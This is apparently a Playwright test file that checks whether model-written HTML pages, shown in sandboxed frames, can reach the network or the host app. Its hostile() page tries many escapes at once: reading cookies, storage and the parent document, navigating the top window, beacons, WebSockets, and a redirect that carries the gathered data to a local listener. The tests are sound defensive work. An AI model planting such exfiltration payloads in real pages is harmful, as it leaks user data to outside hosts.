"""Pages that a model wrote, shown in frames: whatever they try, they reach nobody and learn nothing."""

import json
import socket
import threading
from collections.abc import Iterator
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Frame, expect

from tests.browser.conftest import OpenTab, Tab
from tests.live.app_process import AppProcess

pytestmark = pytest.mark.slow

PLAIN = "<!DOCTYPE html><html><head><style>h1{color:rgb(1, 2, 3)}</style></head><body><h1>Hello</h1></body></html>"
DRAWING = '<svg width="40" height="40"><circle cx="20" cy="20" r="15" fill="red"/><text y="30">Round</text></svg>'


class Elsewhere:
    """A server that any connection to it gives away."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self.connections: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _address = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.connections.append(connection.recv(2000))
                except OSError:
                    self.connections.append(b"(nothing)")

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(5)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    yield server
    server.close()


def hostile(url: str, *, refresh: bool = True) -> str:
    """A page that tries all that needs no script, and all that does."""
    refreshed = f'<meta http-equiv="refresh" content="0; url={url}/refresh">' if refresh else ""
    port = url.rpartition(":")[2]
    return f"""<!DOCTYPE html><html><head>
<base href="{url}/">
{refreshed}
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="{url}/style.css"><link rel="preload" as="image" href="{url}/preload">
<link rel="prefetch" href="{url}/prefetch"><link rel="preconnect" href="{url}"><link rel="icon" href="{url}/icon">
<link rel="dns-prefetch" href="{url}"><link rel="manifest" href="{url}/manifest">
<link rel="modulepreload" href="{url}/m.js">
<style>@import url("{url}/import.css"); @font-face {{ font-family: x; src: url("{url}/font"); }}
body {{ font-family: x; background: url("{url}/background") }}</style>
<script src="{url}/script.js"></script></head>
<body onload="document.body.dataset.ran = 'yes'"><h1>Hostile</h1>
<img src="{url}/image"><img src="relative"><video src="{url}/video" poster="{url}/poster" autoplay></video>
<object data="{url}/object"></object><embed src="{url}/embed"><iframe src="{url}/frame"></iframe>
<svg><image href="{url}/svg"/><use href="{url}/use#a"/></svg>
<form id="form" action="{url}/form" target="_top"><input name="a" value="b"><button id="send">Send</button></form>
<a id="away" href="{url}/away">away</a> <a id="top" href="{url}/top" target="_top">top</a>
<a id="popup" href="{url}/popup" target="_blank" ping="{url}/ping">popup</a>
<script>
const tried = {{}};
const attempt = (name, act) => {{ try {{ tried[name] = String(act()); }} catch (error) {{ tried[name] = 'no'; }} }};
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('parent', () => parent.document.title);
attempt('top', () => {{ top.location = '{url}/top-script'; return 'asked'; }});
attempt('popup', () => window.open('{url}/popup-script'));
attempt('submit', () => {{ document.getElementById('form').submit(); return 'asked'; }});
attempt('beacon', () => navigator.sendBeacon('{url}/beacon', 'x'));
attempt('socket', () => {{ new WebSocket('ws://127.0.0.1:{port}/'); return 'asked'; }});
attempt('worker', () => {{ new Worker('data:text/javascript,fetch("{url}/worker")'); return 'asked'; }});
attempt('image', () => {{ new Image().src = '{url}/image-script'; return 'asked'; }});
attempt('eval', () => eval('1'));
tried.origin = String(window.origin);
Promise.allSettled([fetch('{url}/fetch'), fetch('/_stcore/health'), import('{url}/module.js')]).then(results => {{
    tried.fetch = results.map(result => result.status).join(' ');
    document.body.dataset.tried = JSON.stringify(tried);
    setTimeout(() => location.href = '{url}/location?' + encodeURIComponent(JSON.stringify(tried)), 1000);
}});
</script></body></html>"""


def show(tab: Tab, answer: str, button: str = "Show it") -> Frame:
    """The frame of a page that the sandbox answers with, once it is shown."""
    tab.ask(f"@script rate=0 text={quote(answer)}")
    tab.finished()
    tab.button(button).click()
    tab.settled()
    return framed(tab)


def framed(tab: Tab) -> Frame:
    element = tab.page.locator('iframe[data-testid="stIFrame"]').element_handle()
    frame = element.content_frame()
    assert frame
    frame.wait_for_url("**/model-page/*", wait_until="commit")
    return frame


def test_a_page_is_shown_and_hidden_beside_its_source(scripted_app: AppProcess, open_tab: OpenTab) -> None:
    tab = open_tab(scripted_app, "/playground")
    frame = show(tab, f"Here it is:\n\n```html\n{PLAIN}\n```\nEnjoy.")
    heading = frame.get_by_role("heading", name="Hello")
    expect(heading).to_be_visible()
    expect(heading).to_have_css("color", "rgb(1, 2, 3)")
    expect(tab.answer.get_by_text("Enjoy.")).to_be_visible()
    expect(tab.button("Run its scripts")).to_have_count(0)
    # The frame stays as it is when the page is drawn anew.
    before = frame.url
    tab.button("Hide it").click()
    expect(tab.page.locator("iframe")).to_have_count(0)
    tab.settled()
    cookies = {cookie["name"]: cookie["value"] for cookie in tab.page.context.cookies()}
    assert httpx.get(before, cookies=cookies, trust_env=False).status_code == 404
    tab.button("Show it").click()
    assert framed(tab).url == before


def test_an_answer_that_is_a_drawing_is_shown(scripted_app: AppProcess, open_tab: OpenTab) -> None:
    tab = open_tab(scripted_app, "/playground")
    frame = show(tab, DRAWING)
    expect(frame.locator("svg circle")).to_have_css("fill", "rgb(255, 0, 0)")
    expect(frame.get_by_text("Round")).to_be_visible()


def test_a_hostile_page_without_scripts_reaches_nobody(
    scripted_app: AppProcess, open_tab: OpenTab, elsewhere: Elsewhere
) -> None:
    tab = open_tab(scripted_app, "/playground")
    frame = show(tab, f"```html\n{hostile(elsewhere.url)}\n```")
    expect(frame.get_by_role("heading", name="Hostile")).to_be_visible()
    for link in ("top", "popup", "send", "away"):
        frame.locator(f"#{link}").click(no_wait_after=True)
    stays(tab, scripted_app, elsewhere)
    # The policy kept the frame from going away, so it holds an error of the browser's.
    assert tab.page.locator("iframe").element_handle().content_frame() is not None
    # What a script would have left in the page is not there.
    tab.button("Hide it").click()
    tab.settled()
    tab.button("Show it").click()
    expect(framed(tab).locator("body:not([data-ran]):not([data-tried])")).to_be_visible()
    tab.problems.clear()


def test_a_hostile_page_with_scripts_reaches_nobody(
    scripted_app: AppProcess, open_tab: OpenTab, elsewhere: Elsewhere
) -> None:
    tab = open_tab(scripted_app, "/playground")
    show(tab, f"```html\n{hostile(elsewhere.url, refresh=False)}\n```")
    tab.button("Run its scripts").click()
    tab.settled()
    expect(tab.answer.get_by_text("reveal your network address by WebRTC")).to_be_visible()
    body = framed(tab).locator("body[data-tried]")
    # All that it tries takes a busy machine long.
    body.wait_for(timeout=60_000)
    tried = json.loads(body.get_attribute("data-tried") or "")
    assert tried.pop("fetch") == "rejected rejected rejected"
    assert [name for name, found in tried.items() if found == "no"] == ["cookie", "storage", "parent", "top", "eval"]
    assert (tried["origin"], tried["popup"]) == ("null", "null")
    stays(tab, scripted_app, elsewhere)


def stays(tab: Tab, app: AppProcess, elsewhere: Elsewhere) -> None:
    """Nothing was asked of elsewhere, no window opened, and the page is where it was."""
    # What must not come has no moment at which it has not come.
    tab.page.wait_for_timeout(2000)
    assert elsewhere.connections == []
    assert [page.url for page in tab.page.context.pages if not page.url.startswith(app.base_url)] == []
    expect(tab.button("Hide it")).to_be_visible()
    # The browser tells what it blocked.
    tab.problems.clear()


def test_the_address_of_a_page_is_its_owners_and_keeps_its_policy(scripted_app: AppProcess, open_tab: OpenTab) -> None:
    tab = open_tab(scripted_app, "/playground")
    url = show(tab, PLAIN).url
    other = httpx.get(url, trust_env=False)
    assert (other.status_code, "Hello" in other.text) == (404, False)
    cookies = {cookie["name"]: cookie["value"] for cookie in tab.page.context.cookies()}
    mine = httpx.get(url, cookies=cookies, trust_env=False)
    assert (mine.status_code, mine.headers["content-security-policy"].split(";")[0]) == (200, "sandbox")
    assert mine.headers["x-content-type-options"] == "nosniff"
    # Opened by itself it is as far from the app as in its frame.
    alone = tab.page.context.new_page()
    alone.goto(url)
    assert alone.evaluate("window.origin") == "null"
    alone.close()
    tab.answer.get_by_role("button", name="More").click()
    tab.page.get_by_role("menuitem", name="Delete this turn and what follows").click()
    expect(tab.page.locator("iframe")).to_have_count(0)
    tab.settled()
    assert httpx.get(url, cookies=cookies, trust_env=False).status_code == 404
